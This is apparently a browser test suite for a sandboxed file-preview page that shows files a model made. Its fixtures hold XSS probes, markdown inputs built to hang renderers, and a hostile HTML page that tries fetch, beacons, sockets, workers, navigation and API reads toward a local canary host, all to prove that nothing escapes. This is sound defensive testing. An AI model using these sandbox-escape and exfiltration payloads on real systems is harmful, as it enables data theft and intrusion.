"""The preview page in a real browser: it lists and shows what is there, and what it shows reaches no network."""

import http.server
import os
import struct
import sys
import threading
import time
import urllib.parse
import wave
import zlib
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import harness
from browser import Browser
from harness import options_of, run_stories
from processes import free_port
from server import Foreword

KEY = "preview-suite-key"


# Each of these kept a browser busy for minutes, or for ever.
PATTERNS = "\n\n".join(
    [
        "[a](" * 2500,
        "[" * 40000,
        "[a](b" * 3000,
        "`" * 5000 + "a",
        "**a" * 5000,
        "# " + " " * 30000 + "a",
        "a | b\n" + " " * 50000 + "-x",
        ">" * 4000,
        "The end.",
    ]
)


def png(width, height):
    rows = b"".join(
        b"\0" + b"".join(bytes((x * 255 // width, y * 255 // height, 140)) for x in range(width)) for y in range(height)
    )

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Resources<</Font<</F 4 0 R>>>>/Contents 5 0 R>>endobj
4 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj
5 0 obj<</Length 44>>stream
BT /F 24 Tf 40 100 Td (Quarterly report) Tj ET
endstream endobj
trailer<</Root 1 0 R>>
"""

MARKDOWN = """# Findings

Sales rose by **12 %**, mostly in *Lisbon*; see [the table](data/sales.csv) and `report.py`.

<script>document.title = "taken over"</script> <img src=x onerror="document.title='taken over'">
[a script](javascript:document.title='taken') and ![remote](http://CANARY/remote.png)

![chart](chart.png)

1. First, look at the numbers
   - with their units
2. Then decide

| City | Sales |
|---|---|
| Lisbon | 1,200 |
| Riga | 900 |

> Quality is never an accident.

```python
print("<b>not bold</b>")
```
"""

HTML = """<h1 style="font-family: sans-serif">A page of its own</h1><p id=out>no script</p>
<canvas id=c width=300 height=90></canvas><script>
document.getElementById("out").textContent = "its scripts run";
const g = document.getElementById("c").getContext("2d");
[30, 70, 50, 85].forEach((h, i) => { g.fillStyle = `hsl(${i * 60} 60% 55%)`; g.fillRect(i * 60, 90 - h, 45, h); });
</script>"""

HOSTILE = """<link rel=stylesheet href="http://CANARY/style"><img src="http://CANARY/image"><script src="http://CANARY/script"></script>
<link rel=preconnect href="http://CANARY/"><link rel=dns-prefetch href="http://CANARY/"><link rel=prefetch href="http://CANARY/prefetch">
<iframe src="http://CANARY/frame"></iframe><object data="http://CANARY/object"></object><video src="http://CANARY/video"></video>
<form id=f action="http://CANARY/form"></form><a id=a href="http://CANARY/ping" ping="http://CANARY/ping">x</a>
<script>
const quietly = (work) => { try { const done = work(); if (done?.catch) done.catch(() => {}); } catch {} };
quietly(() => fetch("http://CANARY/fetch"));
quietly(() => fetch("http://CANARY/cors", {mode: "no-cors"}));
quietly(() => navigator.sendBeacon("http://CANARY/beacon"));
quietly(() => new WebSocket("ws://CANARY/socket"));
quietly(() => new EventSource("http://CANARY/events"));
quietly(() => new Worker(URL.createObjectURL(new Blob([`fetch("http://CANARY/worker")`]))));
quietly(() => import("http://CANARY/module"));
quietly(() => document.getElementById("f").submit());
quietly(() => window.open("http://CANARY/window"));
quietly(() => { top.location = "http://CANARY/top"; });
quietly(() => { parent.document.title = "taken over"; });
quietly(() => fetch("/api/outputs/c"));
quietly(() => document.getElementById("a").click());
setTimeout(() => quietly(() => { location = "http://CANARY/self"; }), 300);
document.body.append("RTC: " + typeof RTCPeerConnection);
</script>"""


def fill(outputs, canary):
    def write(name, data):
        path = outputs / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)

    rows = "\n".join(f'{2000 + n % 27},"City {n}, EU",{n * 137 % 9000},{n % 100}.5' for n in range(400))
    write("data/sales.csv", "year,city,sales,share\n" + rows + "\n")
    write("report.py", "import csv\n\n\ndef main():\n    with open('sales.csv') as file:\n        print(sum(1 for _ in file))\n\n\nmain()\n")
    write("chart.png", png(640, 360))
    write("logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 80 80"><circle cx="40" cy="40" r="36" fill="#2457c5"/></svg>')
    write("quarterly.pdf", PDF)
    write("notes.txt", "Plain text, with 日本語 and ümläuts.\n" + "A line that is rather long. " * 12 + "\n")
    write("settings.json", '{\n  "theme": "dark",\n  "size": 12\n}\n')
    write("deck.pptx", b"PK\3\4" + bytes(3000))
    write("a rather long name of a file, with spaces & signs #1 (final).docx", b"PK\3\4" + bytes(40000))
    with wave.open(str(outputs / "tone.wav"), "wb") as tone:
        tone.setparams((1, 2, 8000, 0, "NONE", ""))
        tone.writeframes(bytes(16000))
    write("findings.md", MARKDOWN.replace("CANARY", canary))
    write("page.html", HTML)
    write("patterns.md", PATTERNS)
    (outputs / ".hidden").write_text("x")


class Canary(http.server.BaseHTTPRequestHandler):
    """Whoever gets here has left the frame."""

    hits = []

    def do_GET(self):
        if self.path == "/hostile":
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(HOSTILE.replace("CANARY", self.headers["Host"]).encode())
            return
        self.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, *_):
        pass


def page_of(foreword, chat):
    return foreword.ok(f"/system-prompt?chat_id={chat}").headers["x-preview-url"]


def show(browser, name):
    browser.evaluate(f"[...document.querySelectorAll('#list a')].find((link) => link.title === {name!r}).click()")
    browser.until(f"document.querySelector('#viewer h2')?.title === {name!r}")
    time.sleep(0.4)


def check(browser, url, outputs, canary, shots):
    browser.look(1280, 800)
    browser.open(url)
    browser.until("document.querySelectorAll('#list a').length === 13")
    assert browser.evaluate("document.querySelector('#count').textContent") == "13 files"
    assert ".hidden" not in browser.evaluate("document.body.innerText")
    for name, there in [
        ("findings.md", "document.querySelector('.prose img').naturalWidth === 640"),
        ("data/sales.csv", "document.querySelectorAll('.table tr').length === 401"),
        ("report.py", "document.querySelector('pre code').textContent.includes('def main')"),
        ("notes.txt", "document.querySelector('pre code').textContent.includes('日本語')"),
        ("settings.json", "document.querySelector('pre code').textContent.includes('theme')"),
        ("chart.png", "document.querySelector('.media img').naturalWidth === 640"),
        ("logo.svg", "document.querySelector('.media img').naturalWidth > 0"),
        ("tone.wav", "document.querySelector('audio').duration === 1"),
        ("quarterly.pdf", "document.querySelector('iframe').src.endsWith('quarterly.pdf')"),
        ("patterns.md", "document.querySelector('.prose').innerText.includes('The end.')"),
        ("deck.pptx", "document.querySelector('#viewer').innerText.includes('No preview')"),
        ("page.html", "document.querySelector('iframe').srcdoc.length > 100"),
    ]:
        show(browser, name)
        browser.until(there)
        if shots:
            for scheme in ("light", "dark"):
                browser.look(1280, 800, scheme)
                time.sleep(4 if name.endswith(".pdf") else 0.3)
                browser.screenshot(shots / f"{name.replace('/', '-')}-{scheme}.png")
    show(browser, "findings.md")
    prose = browser.evaluate("document.querySelector('.prose').innerText")
    assert "<script>" in prose and "onerror" in prose, prose
    assert browser.evaluate("document.title") == "findings.md · c"
    assert browser.evaluate("document.querySelector('h1').textContent") == "Files of c"
    assert browser.evaluate("document.querySelectorAll('.prose a[href^=javascript]').length") == 0
    if shots:
        browser.look(390, 780)
        time.sleep(0.3)
        for scheme in ("light", "dark"):
            browser.look(390, 780, scheme)
            time.sleep(0.3)
            browser.screenshot(shots / f"phone-file-{scheme}.png")
            browser.evaluate("document.querySelector('.back').click()")
            time.sleep(0.3)
            browser.screenshot(shots / f"phone-list-{scheme}.png")
            show(browser, "findings.md")
        browser.look(1280, 800)
    # The keyboard is enough.
    browser.evaluate("document.querySelector('#list a').focus()")
    before = browser.evaluate("location.hash")
    browser.press("ArrowDown")
    browser.until(f"location.hash !== {before!r} || document.activeElement !== document.querySelector('#list a')")
    # It refreshes itself.
    (outputs / "later.txt").write_text("later")
    browser.until("document.querySelectorAll('#list a').length === 14")
    problems = browser.errors()
    assert not problems, problems
    assert not Canary.hits, Canary.hits
    # What a model made reaches nothing, however it tries.
    (outputs / "hostile.html").write_text(HOSTILE.replace("CANARY", canary))
    browser.until("document.querySelectorAll('#list a').length === 15")
    show(browser, "hostile.html")
    time.sleep(3)
    assert not Canary.hits, Canary.hits
    assert browser.evaluate("location.pathname").startswith("/preview/")
    assert browser.evaluate("document.title") == "hostile.html · c"
    browser.errors()
    # The same page outside of the frame does get there, so what it tries is worth something.
    browser.call("Page.navigate", {"url": f"http://{canary}/hostile"})
    time.sleep(2)
    reached = {"/fetch", "/cors", "/image", "/script", "/frame"}
    assert reached <= set(Canary.hits), Canary.hits
    browser.open("about:blank")
    browser.errors()


def check_links(browser, foreword, shots):
    """A link to one file of many, with a name as long as names may be."""
    foreword.upload("many", "seen", b"x")
    outputs = foreword.data / "workspaces/many/outputs"
    folder = outputs / "a-folder-of-its-own/with-another-one-in-it/and-one-more-that-has-a-long-name"
    folder.mkdir(parents=True)
    long = folder / ("long-" * 49 + "name.txt")
    long.write_text("long")
    os.utime(long, (1_700_000_000, 1_700_000_000))
    for number in range(80):
        (outputs / f"{number}.txt").write_text("short")
    url = page_of(foreword, "many")
    hash = urllib.parse.quote(str(long.relative_to(outputs)), safe="/-_.")
    browser.look(1280, 800)
    browser.open("about:blank")
    browser.open(f"{url}#{hash}")
    browser.until("document.querySelector('#viewer h2')?.textContent.startsWith('long-')")
    seen = """((box, frame) => box.top >= frame.top - 1 && box.bottom <= frame.bottom + 1)(
        document.querySelector('#list [aria-current=true]').getBoundingClientRect(), list.getBoundingClientRect())"""
    assert browser.evaluate(seen), "the file that was linked to is out of sight in the list"
    inside = """[...document.querySelectorAll('.bar > *')].every((part) => part.scrollWidth === 0 || (part.getBoundingClientRect().width >= 60
        && part.getBoundingClientRect().right <= innerWidth))"""
    whole = "((facts) => facts.scrollWidth <= facts.clientWidth)(document.querySelector('.bar > .facts:not(.folder)'))"
    for width in (1280, 900):
        browser.look(width, 800)
        assert browser.evaluate(inside), f"something is pushed out of the bar at {width}"
        assert browser.evaluate(whole), f"size and time are cut at {width}"
        if shots:
            for scheme in ("light", "dark"):
                browser.look(width, 800, scheme)
                browser.screenshot(shots / f"link-{width}-{scheme}.png")
    browser.look(390, 780)
    assert browser.evaluate("document.documentElement.scrollWidth <= innerWidth")
    if shots:
        browser.screenshot(shots / "link-390.png")
    # It stays where its reader puts it.
    browser.look(1280, 800)
    browser.evaluate("list.scrollTop = 0")
    (outputs / "new.txt").write_text("new")
    browser.until("document.querySelectorAll('#list a').length === 82")
    assert browser.evaluate("list.scrollTop") == 0
    assert not browser.errors()


def check_too_many(browser, foreword, shots):
    """More names than the server holds in memory at once: it says so, and shows those that it has."""
    foreword.upload("full", "seen", b"x")
    folder = foreword.data / "workspaces/full/outputs" / "/".join(["n" * 250] * 14)
    folder.mkdir(parents=True)
    for number in range(4800):
        (folder / f"{number}.txt").touch()
    url = page_of(foreword, "full")
    browser.open(url)
    browser.until("document.querySelector('#count').textContent.includes(' of more than ')")
    assert browser.evaluate("document.querySelectorAll('#list a').length") >= 1000
    if shots:
        browser.screenshot(shots / "too-many.png")
    assert not browser.errors()


def check_states(browser, foreword, shots):
    url = page_of(foreword, "empty")
    browser.look(1280, 800)
    browser.open(url)
    browser.until("document.body.innerText.includes('No files yet')")
    if shots:
        browser.screenshot(shots / "empty.png")
    assert not browser.errors()
    browser.open(url[:-3] + "xxx")
    browser.until("document.body.innerText.includes('This link is not valid')")
    if shots:
        browser.screenshot(shots / "refused.png")


@dataclass(frozen=True)
class Setting(harness.Setting):
    """And the browser, and where pictures of it go."""

    browser: str
    shots: Path | None


def main():
    parser = options_of(__doc__)
    parser.add_argument("--browser", required=True)
    parser.add_argument("--shots", type=Path)
    options = parser.parse_args()
    if options.shots:
        options.shots.mkdir(parents=True, exist_ok=True)
    return run_stories(
        "preview",
        {"preview": preview},
        options.stories,
        lambda scratch: Setting(options.binary, scratch, options.browser, options.shots),
    )


def preview(setting, report):
    canary = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Canary)
    threading.Thread(target=canary.serve_forever, daemon=True).start()
    address = f"127.0.0.1:{canary.server_port}"
    with (
        Foreword(setting, library=None, sandbox="auto", key=KEY, port=free_port()) as foreword,
        closing(Browser(setting.browser)) as browser,
    ):
        with report.case("preview: it lists and shows what is there, and what it shows reaches no network"):
            foreword.upload("c", "seen", b"x")
            outputs = foreword.data / "workspaces/c/outputs"
            fill(outputs, address)
            check(browser, page_of(foreword, "c"), outputs, address, setting.shots)
        with report.case("preview: a link to one file of many"):
            check_links(browser, foreword, setting.shots)
        with report.case("preview: more names than the server holds in memory"):
            check_too_many(browser, foreword, setting.shots)
        with report.case("preview: without files, and with a link that is not valid"):
            check_states(browser, foreword, setting.shots)


if __name__ == "__main__":
    sys.exit(main())
